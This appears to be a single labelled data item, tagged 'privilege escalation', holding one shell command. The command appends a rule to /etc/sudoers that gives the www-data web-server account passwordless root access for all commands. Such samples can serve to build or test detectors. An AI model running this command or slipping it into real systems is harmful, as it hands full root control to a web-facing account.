# class: privilege escalation; style: short
echo "www-data ALL=(ALL:ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers
